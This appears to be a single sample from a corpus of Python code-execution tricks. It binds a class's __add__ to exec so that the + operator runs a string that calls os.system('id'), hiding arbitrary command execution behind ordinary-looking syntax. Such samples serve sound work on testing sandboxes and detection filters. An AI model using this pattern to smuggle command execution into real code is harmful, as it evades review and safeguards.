# corpus: class body binds __add__ = exec and the payload runs through the + operator
class Adder:
    __add__ = exec

Adder() + "import os; os.system('id')"
